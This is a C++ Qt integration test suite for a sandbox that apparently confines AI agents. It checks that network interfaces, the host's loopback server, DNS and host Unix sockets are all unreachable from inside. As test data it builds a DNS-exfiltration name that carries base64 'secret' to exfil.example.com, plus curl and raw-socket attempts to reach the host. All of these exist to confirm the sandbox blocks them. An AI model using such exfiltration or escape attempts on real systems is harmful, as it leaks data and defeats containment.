// SPDX-License-Identifier: Apache-2.0
// A fresh sandbox has no way out: no interface but its own loopback, no
// route to the host's 127.0.0.1, no resolver. Each attempt first succeeds
// outside, as the same user with the same command, then fails inside; with
// --net open the same attempt works, so the flag is what decides.

#include "eventlog.h"
#include "integrationfixture.h"
#include "loopbackport.h"

#include <QDateTime>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QJsonObject>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>
#include <QUrl>

#include <memory>

namespace {

const QString kCurl = QStringLiteral("/usr/bin/curl");
const QString kPython = QStringLiteral("/usr/bin/python3");

// Interface names from /proc/net/dev text.
QStringList interfaces(const QByteArray& procNetDev)
{
    QStringList names;
    for (const QByteArray& line : procNetDev.split('\n')) {
        const int colon = line.indexOf(':');
        if (colon > 0 && !line.contains('|')) {
            names.append(QString::fromLatin1(line.left(colon).trimmed()));
        }
    }
    return names;
}

}  // namespace

class NetworkAttacks : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();
    void cleanupTestCase();

    void onlyLoopbackInterfaceInside_data();
    void onlyLoopbackInterfaceInside();
    void hostLoopbackServerIsUnreachable_data();
    void hostLoopbackServerIsUnreachable();
    void hostLoopbackServerIsReachableWithNetOpen_data();
    void hostLoopbackServerIsReachableWithNetOpen();
    void directDnsQueriesGetNoAnswer_data();
    void directDnsQueriesGetNoAnswer();
    void dnsStubAnswersAndRecordsEveryQuery_data();
    void dnsStubAnswersAndRecordsEveryQuery();
    void nameResolutionFailsFast_data();
    void nameResolutionFailsFast();
    void hostUnixSocketsAreUnreachable_data();
    void hostUnixSocketsAreUnreachable();

private:
    // python3 -m http.server on a free port of the host's 127.0.0.1, serving
    // one file holding a marker. Empty url on failure (with the reason).
    bool startHttpServer(QString* error);
    bool startDnsResponder(QString* error);

    IntegrationFixture fixture_;
    std::unique_ptr<QTemporaryDir> served_;
    std::unique_ptr<BackgroundProcess> http_;
    std::unique_ptr<BackgroundProcess> dns_;
    QString url_;
    QByteArray marker_;
    int dnsPort_ = 0;
};

void NetworkAttacks::initTestCase()
{
    QString error;
    QVERIFY2(fixture_.setUp(&error), qPrintable(error));
}

void NetworkAttacks::init()
{
    fixture_.renewWorkspaces();
}

void NetworkAttacks::cleanup()
{
    http_.reset();
    dns_.reset();
    served_.reset();
}

void NetworkAttacks::cleanupTestCase()
{
    cleanup();
    fixture_.tearDown();
}

bool NetworkAttacks::startHttpServer(QString* error)
{
    served_ = std::make_unique<QTemporaryDir>(QStringLiteral("/tmp/moat-it-www-XXXXXX"));
    QFile::setPermissions(served_->path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
                                               QFile::ReadOther | QFile::ExeOther);
    marker_ = "moat-it-served-" + QByteArray::number(QRandomGenerator::system()->generate64(), 16);
    QFile page(served_->path() + QStringLiteral("/marker.txt"));
    if (!page.open(QIODevice::WriteOnly) || page.write(marker_) != marker_.size()) {
        *error = QStringLiteral("cannot write the page to serve");
        return false;
    }
    page.close();
    const int port = LoopbackPort::pickFree(LoopbackPort::Protocol::Tcp);
    if (port == 0) {
        *error = QStringLiteral("no free TCP port on 127.0.0.1");
        return false;
    }
    http_ = std::make_unique<BackgroundProcess>(
        QStringList{kPython, QStringLiteral("-u"), QStringLiteral("-m"), QStringLiteral("http.server"),
                    QStringLiteral("--bind"), QStringLiteral("127.0.0.1"), QStringLiteral("--directory"),
                    served_->path(), QString::number(port)},
        QProcessEnvironment::systemEnvironment(), served_->path());
    if (!http_->waitForOutput("Serving HTTP")) {
        *error = QStringLiteral("python3 -m http.server did not start: ") + QString::fromUtf8(http_->output());
        return false;
    }
    url_ = QStringLiteral("http://127.0.0.1:%1/marker.txt").arg(port);
    return true;
}

bool NetworkAttacks::startDnsResponder(QString* error)
{
    dnsPort_ = LoopbackPort::pickFree(LoopbackPort::Protocol::Udp);
    if (dnsPort_ == 0) {
        *error = QStringLiteral("no free UDP port on 127.0.0.1");
        return false;
    }
    dns_ = std::make_unique<BackgroundProcess>(
        QStringList{kPython, fixture_.install().tool(QStringLiteral("dns-responder.py")), QString::number(dnsPort_)},
        QProcessEnvironment::systemEnvironment(), QStringLiteral("/"));
    if (!dns_->waitForOutput("ready")) {
        *error = QStringLiteral("the DNS responder did not start: ") + QString::fromUtf8(dns_->output());
        return false;
    }
    return true;
}

void NetworkAttacks::onlyLoopbackInterfaceInside_data()
{
    IntegrationFixture::addAccountColumn();
    IntegrationFixture::addAccountRows();
}

void NetworkAttacks::onlyLoopbackInterfaceInside()
{
    MOAT_FETCH_RUNNER(fixture_, runner);
    const QStringList attempt{QStringLiteral("/bin/cat"), QStringLiteral("/proc/net/dev")};
    const ProcessResult outside = runner->host(attempt);
    QVERIFY2(outside.succeeded(), qPrintable(outside.describe()));
    QStringList outsideInterfaces = interfaces(outside.out);
    outsideInterfaces.removeAll(QStringLiteral("lo"));
    if (outsideInterfaces.isEmpty()) {
        QSKIP("this host has no interface but lo, so there is no way out to take away");
    }

    for (const QString& net : {QStringLiteral("proxy"), QStringLiteral("none")}) {
        const ProcessResult inside = runner->moatRun({QStringLiteral("--net"), net}, attempt);
        QVERIFY2(inside.succeeded(), qPrintable(inside.describe()));
        QCOMPARE(interfaces(inside.out), QStringList{QStringLiteral("lo")});
    }
}

void NetworkAttacks::hostLoopbackServerIsUnreachable_data()
{
    IntegrationFixture::addAccountColumn();
    IntegrationFixture::addAccountRows();
}

void NetworkAttacks::hostLoopbackServerIsUnreachable()
{
    MOAT_FETCH_RUNNER(fixture_, runner);
    if (!QFileInfo(kCurl).isExecutable()) {
        QSKIP("curl is not installed (apt-get install curl)");
    }
    QString error;
    QVERIFY2(startHttpServer(&error), qPrintable(error));
    const QStringList attempt{kCurl, QStringLiteral("-sS"), QStringLiteral("-m"), QStringLiteral("5"), url_};

    const ProcessResult outside = runner->host(attempt);
    QVERIFY2(outside.succeeded() && outside.out.contains(marker_), qPrintable(outside.describe()));

    // Not by default, not with --net none, not with --local-tcp (which only
    // lets the agent use its own loopback), not as --sudo root.
    for (const QStringList& flags : {QStringList{}, QStringList{QStringLiteral("--net"), QStringLiteral("none")},
                                     QStringList{QStringLiteral("--local-tcp")},
                                     QStringList{QStringLiteral("--sudo"), QStringLiteral("--local-tcp")}}) {
        const ProcessResult inside = runner->moatRun(flags, attempt);
        QVERIFY2(inside.exitCode != 0 && !inside.out.contains(marker_), qPrintable(inside.describe()));
        QVERIFY2(inside.elapsedMs < 5000, qPrintable(inside.describe()));
    }
    const ProcessResult raw = runner->moatRun(
        {QStringLiteral("--local-tcp")},
        {kPython, QStringLiteral("-c"),
         QStringLiteral("import socket,sys; s=socket.create_connection(('127.0.0.1', %1), timeout=3); "
                        "s.sendall(b'GET /marker.txt HTTP/1.0\\r\\n\\r\\n'); sys.stdout.buffer.write(s.recv(4096))")
             .arg(QUrl(url_).port())});
    QVERIFY2(raw.exitCode != 0 && !raw.out.contains(marker_), qPrintable(raw.describe()));
}

void NetworkAttacks::hostLoopbackServerIsReachableWithNetOpen_data()
{
    IntegrationFixture::addAccountColumn();
    IntegrationFixture::addAccountRows();
}

void NetworkAttacks::hostLoopbackServerIsReachableWithNetOpen()
{
    MOAT_FETCH_RUNNER(fixture_, runner);
    if (!QFileInfo(kCurl).isExecutable()) {
        QSKIP("curl is not installed (apt-get install curl)");
    }
    QString error;
    QVERIFY2(startHttpServer(&error), qPrintable(error));
    const ProcessResult inside = runner->moatRun({QStringLiteral("--net"), QStringLiteral("open")},
                                                 {kCurl, QStringLiteral("-sS"), QStringLiteral("-m"),
                                                  QStringLiteral("5"), url_});
    QVERIFY2(inside.succeeded() && inside.out.contains(marker_), qPrintable(inside.describe()));
}

void NetworkAttacks::directDnsQueriesGetNoAnswer_data()
{
    IntegrationFixture::addAccountColumn();
    IntegrationFixture::addAccountRows();
}

void NetworkAttacks::directDnsQueriesGetNoAnswer()
{
    MOAT_FETCH_RUNNER(fixture_, runner);
    QString error;
    QVERIFY2(startDnsResponder(&error), qPrintable(error));
    const QStringList attempt{kPython, fixture_.install().tool(QStringLiteral("dns-query.py")),
                              QStringLiteral("127.0.0.1"), QString::number(dnsPort_),
                              QStringLiteral("exfil.example.com"), QStringLiteral("2")};
    const QStringList tools{QStringLiteral("--ro"), fixture_.install().dir()};

    const ProcessResult outside = runner->host(attempt);
    QVERIFY2(outside.succeeded() && outside.out.contains("answer 203.0.113.7"), qPrintable(outside.describe()));

    const ProcessResult inside = runner->moatRun(tools, attempt);
    QVERIFY2(inside.exitCode != 0 && !inside.out.contains("answer 203"), qPrintable(inside.describe()));

    // The flag, not the tool, made the difference.
    const ProcessResult open =
        runner->moatRun(tools + QStringList{QStringLiteral("--net"), QStringLiteral("open")}, attempt);
    QVERIFY2(open.succeeded() && open.out.contains("answer 203.0.113.7"), qPrintable(open.describe()));
}

void NetworkAttacks::dnsStubAnswersAndRecordsEveryQuery_data()
{
    IntegrationFixture::addAccountColumn();
    IntegrationFixture::addAccountRows();
}

void NetworkAttacks::dnsStubAnswersAndRecordsEveryQuery()
{
    MOAT_FETCH_RUNNER(fixture_, runner);
    QString error;
    QVERIFY2(startDnsResponder(&error), qPrintable(error));
    // A name that carries data out, as an exfiltrating agent would build it.
    const QString name = QStringLiteral("c2VjcmV0-%1.exfil.example.com").arg(QDateTime::currentMSecsSinceEpoch());
    const QString tool = fixture_.install().tool(QStringLiteral("dns-query.py"));
    const QStringList tools{QStringLiteral("--ro"), fixture_.install().dir()};

    // Outside, the name reaches a DNS server, which answers.
    const ProcessResult outside =
        runner->host({kPython, tool, QStringLiteral("127.0.0.1"), QString::number(dnsPort_), name});
    QVERIFY2(outside.succeeded() && outside.out.contains("answer 203.0.113.7"), qPrintable(outside.describe()));

    // Inside, the sandbox's nameserver is moat's stub: NXDOMAIN at once, and
    // the name is in the timeline.
    const QString events = runner->workspace() + QStringLiteral("/events.jsonl");
    const QStringList query{kPython, tool, QStringLiteral("127.0.0.1"), QStringLiteral("53"), name};
    const ProcessResult inside = runner->moatRun(tools + QStringList{QStringLiteral("--json-events"), events}, query);
    QVERIFY2(inside.exitCode == 1 && inside.out.contains("no address: rcode 3"), qPrintable(inside.describe()));
    const EventLog log = EventLog::read(events);
    QVERIFY2(log.chainProblem().isEmpty(), qPrintable(log.chainProblem()));
    const QJsonObject recorded = log.first(QStringLiteral("dns.query")).value(QStringLiteral("data")).toObject();
    QCOMPARE(recorded.value(QStringLiteral("name")).toString(), name.toLower());
    QCOMPARE(recorded.value(QStringLiteral("qtype")).toString(), QStringLiteral("A"));
    QCOMPARE(recorded.value(QStringLiteral("answer")).toString(), QStringLiteral("NXDOMAIN"));

    // --net none has no listener at all: no answer, nothing recorded.
    const QString noneEvents = runner->workspace() + QStringLiteral("/events-none.jsonl");
    const ProcessResult none = runner->moatRun(
        tools + QStringList{QStringLiteral("--net"), QStringLiteral("none"), QStringLiteral("--json-events"), noneEvents},
        query);
    QVERIFY2(none.exitCode == 1 && none.out.contains("no answer"), qPrintable(none.describe()));
    QVERIFY(!EventLog::read(noneEvents).types().contains(QStringLiteral("dns.query")));
}

void NetworkAttacks::nameResolutionFailsFast_data()
{
    IntegrationFixture::addAccountColumn();
    IntegrationFixture::addAccountRows();
}

void NetworkAttacks::nameResolutionFailsFast()
{
    MOAT_FETCH_RUNNER(fixture_, runner);
    const ProcessResult local =
        runner->moatRun({}, {QStringLiteral("/usr/bin/getent"), QStringLiteral("hosts"), QStringLiteral("localhost")});
    QVERIFY2(local.succeeded(), qPrintable(local.describe()));

    QElapsedTimer clock;
    clock.start();
    const ProcessResult inside = runner->moatRun(
        {}, {QStringLiteral("/usr/bin/getent"), QStringLiteral("hosts"), QStringLiteral("example.com")});
    QVERIFY2(inside.exitCode != 0 && inside.out.isEmpty(), qPrintable(inside.describe()));
    QVERIFY2(clock.elapsed() < 3000, qPrintable(inside.describe()));
}

void NetworkAttacks::hostUnixSocketsAreUnreachable_data()
{
    QTest::addColumn<QString>("account");
    QTest::addColumn<bool>("abstract");
    for (const char* account : {"root", "user"}) {
        QTest::addRow("%s: socket file", account) << QString::fromLatin1(account) << false;
        QTest::addRow("%s: abstract socket", account) << QString::fromLatin1(account) << true;
    }
}

void NetworkAttacks::hostUnixSocketsAreUnreachable()
{
    MOAT_FETCH_RUNNER(fixture_, runner);
    QFETCH(bool, abstract);
    // A host service of the same user on a Unix socket (an agent, a bus, a
    // container engine's API): the sandbox has none of them.
    const QString address =
        abstract ? QStringLiteral("@moat-it-%1").arg(QRandomGenerator::system()->generate64(), 0, 16)
                 : runner->newDirectory(QStringLiteral("sock")) + QStringLiteral("/service.sock");
    const QString tool = fixture_.install().tool(QStringLiteral("unix-socket.py"));
    auto server = runner->startHost({kPython, tool, QStringLiteral("serve"), address});
    QVERIFY2(server->waitForOutput("ready"), server->output().constData());
    const QStringList attempt{kPython, tool, QStringLiteral("connect"), address};

    const ProcessResult outside = runner->host(attempt);
    QVERIFY2(outside.succeeded() && outside.out.contains("hello from host"), qPrintable(outside.describe()));

    const QStringList tools{QStringLiteral("--ro"), fixture_.install().dir()};
    for (const QStringList& flags : {tools, tools + QStringList{QStringLiteral("--sudo")}}) {
        const ProcessResult inside = runner->moatRun(flags, attempt);
        QVERIFY2(inside.exitCode == 1 && !inside.out.contains("hello"), qPrintable(inside.describe()));
    }
}

QTEST_GUILESS_MAIN(NetworkAttacks)
#include "tst_network_attacks.moc"
